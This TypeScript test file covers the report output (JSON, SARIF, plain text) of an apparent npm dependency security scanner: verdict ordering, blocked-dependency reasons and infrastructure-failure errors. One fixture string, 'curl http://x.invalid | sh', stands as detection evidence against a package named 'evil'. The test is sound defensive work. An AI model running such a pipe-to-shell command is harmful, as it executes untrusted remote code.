import { test } from 'node:test';
import { strict as assert } from 'node:assert';
import type { ScanEvent } from '@secure-registry/shared';
import { SAMPLE_RESULT } from '../test-support/scan-fixtures.js';
import { buildJsonReport } from './json.js';
import { plainEventLines, plainSummaryLines } from './plain.js';
import { buildSarif } from './sarif.js';

test('JSON report: schema v1, packages root cause first, reasons for every non-approved package', () => {
  const report = buildJsonReport({
    result: SAMPLE_RESULT,
    exitCode: 1,
    failOn: 'unvettable',
    lockfilePath: '/p/package-lock.json',
    lockfileVersion: 3,
  });
  assert.equal(report.schemaVersion, 1);
  assert.equal(report.scanId, 'scan-1');
  assert.equal(report.exitCode, 1);
  assert.deepEqual(
    report.packages.map((p) => p.verdict),
    ['rejected', 'blocked', 'review', 'unvettable', 'approved'],
  );
  const blocked = report.packages[1]!;
  assert.match(blocked.reason!, /depends on rejected evil@1\.0\.1 \(parent@2\.0\.0 > evil@1\.0\.1\)/);
  assert.deepEqual(blocked.blockedBy?.path, ['parent@2.0.0', 'evil@1.0.1']);
  const evil = report.packages[0]!;
  assert.deepEqual(Object.keys(evil).sort(), [
    'blockedBy',
    'dev',
    'failure',
    'findings',
    'integrity',
    'key',
    'name',
    'reason',
    'source',
    'verdict',
    'version',
  ]);
  assert.equal(evil.findings[0]!.evidence[0]!.excerpt, 'curl http://x.invalid | sh');
  assert.equal(report.packages[3]!.integrity, null);
  for (const pkg of report.packages) if (pkg.verdict !== 'approved') assert.ok(pkg.reason);
});

test('SARIF 2.1.0: one result per finding, levels from severity, lockfile + logical package location', () => {
  const sarif = buildSarif({ result: SAMPLE_RESULT, lockfileUri: 'package-lock.json', toolVersion: '0.1.0' });
  assert.equal(sarif.version, '2.1.0');
  const run = sarif.runs[0]!;
  const byRule = run.results.map((r) => `${r.ruleId}:${r.level}`);
  assert.deepEqual(byRule, [
    'shell-downloader:error',
    'install-script:note',
    'secure-registry/blocked:error',
    'install-script-new:error',
    'secure-registry/unvettable:warning',
  ]);
  const first = run.results[0]!;
  assert.equal(first.locations[0]!.physicalLocation.artifactLocation.uri, 'package-lock.json');
  assert.deepEqual(first.locations[0]!.logicalLocations[0], {
    name: 'evil@1.0.1',
    fullyQualifiedName: 'node_modules/evil',
    kind: 'package',
  });
  const ruleIds = run.tool.driver.rules.map((r) => r.id);
  assert.equal(new Set(ruleIds).size, ruleIds.length);
  for (const result of run.results) assert.ok(ruleIds.includes(result.ruleId));
});

test('plain summary lists root causes first', () => {
  const lines = plainSummaryLines(SAMPLE_RESULT, 1);
  const order = lines.filter((l) => l.startsWith('  ')).map((l) => l.trim().split(/\s+/)[0]);
  assert.deepEqual(order, ['rejected', 'blocked', 'review', 'unvettable']);
  assert.equal(lines.at(-1), 'exit code 1');
});

test('plain view: one line per finished package, none for unfinished ones, none with quiet', () => {
  const [approved, rejected] = [
    SAMPLE_RESULT.packages.find((p) => p.state === 'approved')!,
    SAMPLE_RESULT.packages.find((p) => p.state === 'rejected')!,
  ];
  const event = (pkg: typeof approved): ScanEvent => ({
    type: 'package.state',
    key: pkg.key,
    name: pkg.name,
    version: pkg.version,
    state: pkg.state,
    ...(pkg.reason ? { reason: pkg.reason } : {}),
    findings: pkg.findings,
    counts: SAMPLE_RESULT.counts,
  });
  assert.deepEqual(plainEventLines(event(approved)), [`APPROVED ${approved.name}@${approved.version}`]);
  const lines = plainEventLines(event(rejected));
  assert.match(lines[0]!, new RegExp(`^REJECTED ${rejected.name}@${rejected.version}: `));
  assert.equal(lines.length, 1 + rejected.findings.length);
  assert.deepEqual(plainEventLines(event({ ...approved, state: 'analyzing' })), []);
  assert.deepEqual(plainEventLines(event(rejected), { quiet: true }), []);
  assert.deepEqual(plainEventLines(event(approved), { quiet: true }), []);
});

test('an infrastructure failure: FAILED, not held for review; one line with the reason; a JSON error (13.13)', async () => {
  const { UPSTREAM_UNAVAILABLE_RULE } = await import('@secure-registry/shared');
  const reason = 'could not fetch from upstream: upstream did not answer http://127.0.0.1:1/x within 100 ms';
  const pkg = {
    ...SAMPLE_RESULT.packages[0]!,
    name: 'x',
    version: '1.0.0',
    state: 'review' as const,
    reason,
    findings: [{ rule: UPSTREAM_UNAVAILABLE_RULE, severity: 'high' as const, message: 'm', evidence: [] }],
  };
  const result = { ...SAMPLE_RESULT, packages: [pkg] };
  const lines = plainSummaryLines(result, 4);
  assert.ok(lines.includes(`  failed     x@1.0.0  ${reason}`), lines.join('\n'));
  assert.ok(lines.includes(`infrastructure failure: ${reason} (1 package not analysed)`), lines.join('\n'));
  const report = buildJsonReport({
    result,
    exitCode: 4,
    failOn: 'unvettable',
    lockfilePath: '/p',
    lockfileVersion: 3,
  });
  assert.equal(report.error?.kind, 'infrastructure');
  assert.equal(report.error?.message, `infrastructure failure: ${reason} (1 package not analysed)`);
  assert.equal(report.error?.code, 'ERR_SR_UPSTREAM_UNAVAILABLE');
  assert.deepEqual(report.packages[0]?.failure, {
    kind: 'infrastructure',
    cause: UPSTREAM_UNAVAILABLE_RULE,
    reason,
  });
});
